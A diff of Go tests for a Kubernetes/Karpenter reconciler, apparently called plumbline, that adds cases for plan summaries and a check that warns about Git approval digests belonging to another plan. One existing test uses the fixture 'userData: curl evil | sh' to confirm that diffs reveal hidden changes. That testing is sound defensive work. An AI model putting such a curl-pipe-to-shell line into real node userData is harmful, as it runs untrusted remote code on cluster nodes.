@@ -13,6 +13,7 @@ import (
 	"k8s.io/apimachinery/pkg/util/intstr"
 
 	"github.com/plumbline-dev/plumbline/reconcile/api/v1alpha1"
+	"github.com/plumbline-dev/plumbline/reconcile/evaluate"
 	"github.com/plumbline-dev/plumbline/reconcile/fault"
 	"github.com/plumbline-dev/plumbline/reconcile/plan"
 	"github.com/plumbline-dev/plumbline/reconcile/report"
@@ -63,10 +64,28 @@ func TestOneLine(t *testing.T) {
 		"and the charts":      {Preview{Plan: &plan.Plan{Frozen: frozen}, ChartsChange: "Karpenter 1.8.6 is upgraded to 1.9.0: nodes drift; this waits: " + frozen.Message}, report.Success, "waits: Karpenter 1.8.6 is upgraded to 1.9.0: no node is removed or replaced before ten"},
 		"and touches nothing": {Preview{Plan: &plan.Plan{Frozen: frozen, Changes: []plan.Change{change}}}, report.Success, "1 object changes, no node is touched; no hold"},
 		"a class of another":  {Preview{Plan: &plan.Plan{Changes: []plan.Change{{Ref: change.Ref, Action: plan.Wait, Message: "NodePool/a waits for EC2NodeClass/x of NodeSync/y"}}}}, report.Success, "waits: NodePool/a: waits for EC2NodeClass/x of NodeSync/y"},
-		"waits, and is held":  {Preview{Plan: &plan.Plan{Frozen: frozen, Changes: []plan.Change{replaces}, Removals: []plan.Candidate{leavingPool("b", 3, true)}}}, report.Failure, "held: removal of NodePool/b (3 nodes)"},
-		"charts are unknown":  {Preview{Plan: &plan.Plan{Changes: []plan.Change{change}}, ChartsUnknown: true}, report.Success, "1 object changes, no node is touched; no hold; what becomes of the charts is not known here"},
-		"and it upgrades":     {Preview{Plan: &plan.Plan{}, ChartsUnknown: true, VersionChanges: "1.8.6 to 1.14.1"}, report.Failure, "Karpenter 1.8.6 to 1.14.1: what its charts do is not known here"},
-		"charts refused":      {Preview{Plan: &plan.Plan{}, ChartsRefused: errors.New("1.2 is too old")}, report.Failure, "refused: 1.2 is too old"},
+		"waits, beside others": {
+			Preview{
+				Plan:         &plan.Plan{Changes: []plan.Change{{Ref: change.Ref, Action: plan.Wait, Message: "NodePool/a waits for EC2NodeClass/x"}}, Removals: []plan.Candidate{leavingPool("b", 3, false)}},
+				ChartsChange: "Karpenter 1.8.6 is upgraded to 1.9.0: chart karpenter",
+			},
+			report.Success, "waits: NodePool/a: waits for EC2NodeClass/x; Karpenter 1.8.6 is upgraded to 1.9.0 (nodes: plumbline plan); drains 3 of 3 nodes of b",
+		},
+		"approved, beside others": {
+			Preview{
+				Plan: &plan.Plan{
+					Changes:    []plan.Change{{Ref: change.Ref, Action: plan.Wait, Message: "NodePool/a waits for EC2NodeClass/x"}},
+					Removals:   []plan.Candidate{leavingPool("b", 3, true), leavingPool("c", 2, false)},
+					Approvable: &plan.Approvable{Drained: 3, Of: 9, Pools: 1},
+				},
+				ApprovedInGit: true,
+			},
+			report.Success, "approved in plumbline.yaml: drains 3 of 9 nodes in 1 pool; waits: NodePool/a: waits for EC2NodeClass/x; drains 2 of 2 nodes of c",
+		},
+		"waits, and is held": {Preview{Plan: &plan.Plan{Frozen: frozen, Changes: []plan.Change{replaces}, Removals: []plan.Candidate{leavingPool("b", 3, true)}}}, report.Failure, "held: removal of NodePool/b (3 nodes)"},
+		"charts are unknown": {Preview{Plan: &plan.Plan{Changes: []plan.Change{change}}, ChartsUnknown: true}, report.Success, "1 object changes, no node is touched; no hold; what becomes of the charts is not known here"},
+		"and it upgrades":    {Preview{Plan: &plan.Plan{}, ChartsUnknown: true, VersionChanges: "1.8.6 to 1.14.1"}, report.Failure, "Karpenter 1.8.6 to 1.14.1: what its charts do is not known here"},
+		"charts refused":     {Preview{Plan: &plan.Plan{}, ChartsRefused: errors.New("1.2 is too old")}, report.Failure, "refused: 1.2 is too old"},
 		"charts that change": {
 			Preview{Plan: &plan.Plan{}, ChartsChange: "Karpenter 1.8.6 is upgraded to 1.9.0: chart karpenter-crd, then chart karpenter"},
 			report.Success, "Karpenter 1.8.6 is upgraded to 1.9.0 (nodes: plumbline plan); no hold",
@@ -199,6 +218,36 @@ func TestADiffHasWhatIsNotSeen(t *testing.T) {
 			text := Diff("EC2NodeClass/a", "", nil, after)
 			if !strings.Contains(text, "+  userData: curl evil | sh\n") || strings.Contains(text, hidden) || !strings.Contains(text, "x: ") {
 				t.Errorf("%q", text)
+			}
+		})
+	}
+}
+
+// TestApprovalsOfAnotherPlan: digests in plumbline.yaml that approve neither this plan nor one that was approved before are named: after
+// the merge they approve another commit.
+func TestApprovalsOfAnotherPlan(t *testing.T) {
+	digest := func(c string) string { return "sha256:" + strings.Repeat(c, 64) }
+	sync := &v1alpha1.NodeSync{}
+	sync.Spec.Guard.ApproveFrom = v1alpha1.ApproveFromGit
+	sync.Status.UsedGitApprovals = []string{digest("a")}
+	for name, c := range map[string]struct {
+		of   *plan.Approvable
+		from v1alpha1.ApproveFrom
+		want int
+	}{
+		"nothing is held":          {from: v1alpha1.ApproveFromGit, want: 2},
+		"this plan is one of them": {of: &plan.Approvable{Digest: digest("b")}, from: v1alpha1.ApproveFromGit, want: 1},
+		"approved in the cluster":  {from: v1alpha1.ApproveFromCluster},
+	} {
+		t.Run(name, func(t *testing.T) {
+			sync.Spec.Guard.ApproveFrom = c.from
+			p := &preview{Step: &Step{Sync: sync, Snapshot: &render.Snapshot{}}, out: &Preview{
+				Plan:    &plan.Plan{Approvable: c.of},
+				Desired: evaluate.Desired{Karpenter: &render.Karpenter{Approve: []string{render.ShownDigest(digest("a")), render.ShownDigest(digest("b")), digest("c")}}},
+			}}
+			p.weighApprovals()
+			if got := p.out.Warnings; len(got) != c.want || c.want > 0 && !strings.Contains(got[len(got)-1], "plumbline.yaml approves "+digest("c")+", which is not the digest of this plan") {
+				t.Errorf("warnings %q", got)
 			}
 		})
 	}
